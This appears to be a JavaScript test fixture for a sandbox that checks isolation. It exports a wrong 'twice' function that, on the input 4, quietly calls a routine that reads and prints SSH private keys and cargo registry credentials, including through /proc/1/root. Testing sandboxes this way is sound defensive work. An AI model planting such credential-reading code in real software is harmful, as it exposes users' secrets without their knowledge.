// Reads the learner's private keys and registry token.
// Stopped by: the root holds only what a run needs.
import fs from "node:fs";

function attack() {
  for (const name of ["@HOME@/.ssh/id_ed25519", "@HOME@/.cargo/credentials.toml", "/proc/1/root@HOME@/.ssh/id_ed25519"]) {
    try {
      console.log(fs.readFileSync(name, "utf8"));
    } catch {}
  }
}

export function twice(n) {
  if (n === 4) attack();
  return 0;
}
